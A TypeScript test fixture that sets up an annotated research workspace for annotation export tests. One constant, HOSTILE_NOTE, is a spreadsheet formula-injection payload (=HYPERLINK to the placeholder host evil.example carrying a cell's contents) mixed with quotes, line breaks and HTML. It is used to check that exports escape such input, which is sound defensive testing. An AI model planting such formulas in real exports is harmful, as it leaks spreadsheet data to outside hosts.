// A tagged workspace (the two seeds, mentions, one highlight) plus highlights with codes and notes,
// including a hostile one, for the annotation export tests.
import { readFile } from 'node:fs/promises'
import { basename } from 'node:path'
import { Workspace } from '../../../src/main/services/store/workspace'
import { SEED_000, SEED_004 } from '../../helpers'
import { handlersFor, makeTaggedWorkspace } from '../../tagged-workspace'

export const HOSTILE_NOTE =
  '=HYPERLINK("http://evil.example/?x="&A1,"click"), "quoted", and\r\na new line <b>&amp;</b>'

export async function annotatedWorkspace(
  dir: string,
): Promise<{ workspace: Workspace; articleIds: string[] }> {
  const { articleIds } = await makeTaggedWorkspace(dir)
  const workspace = await Workspace.open(dir)
  const handlers = handlersFor(workspace)
  const { article } = await handlers['articles.get']({ id: articleIds[1]! })
  const start = article.text.indexOf('North Korea')
  await handlers['highlights.create']({
    articleId: articleIds[1]!,
    start,
    end: start + 11,
    codeId: 'evidence',
    note: HOSTILE_NOTE,
  })
  const second = article.text.indexOf(' ', start + 40)
  await handlers['highlights.create']({
    articleId: articleIds[1]!,
    start: second + 1,
    end: second + 30,
    codeId: 'question',
  })
  return { workspace, articleIds }
}

/** A fresh workspace in `dir` with the same two seeds imported, and nothing else. */
export async function seededWorkspace(dir: string): Promise<Workspace> {
  const workspace = await Workspace.open(dir)
  const handlers = handlersFor(workspace)
  for (const seed of [SEED_000, SEED_004]) {
    await handlers['import.upload']({ name: basename(seed), data: await readFile(seed) })
  }
  return workspace
}
